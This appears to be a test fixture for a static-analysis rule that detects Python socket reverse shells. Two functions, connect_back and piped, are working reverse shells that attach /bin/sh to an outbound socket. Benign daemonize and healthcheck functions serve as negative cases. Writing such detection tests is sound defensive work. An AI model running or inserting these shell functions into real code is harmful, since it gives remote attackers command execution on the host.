import os
import pty
import socket
import subprocess


def connect_back(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    # ruleid: py-socket-shell
    os.dup2(s.fileno(), 0)
    # ruleid: py-socket-shell
    os.dup2(s.fileno(), 1)
    # ruleid: py-socket-shell
    pty.spawn("/bin/sh")


def piped(host, port):
    s = socket.create_connection((host, port))
    # ruleid: py-socket-shell
    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())


def daemonize():
    devnull = open(os.devnull, "r+")
    # ok: py-socket-shell
    os.dup2(devnull.fileno(), 0)


def healthcheck(host, port):
    s = socket.create_connection((host, port), timeout=2)
    s.sendall(b"PING\r\n")
    # ok: py-socket-shell
    reply = s.recv(64)
    s.close()
    return reply
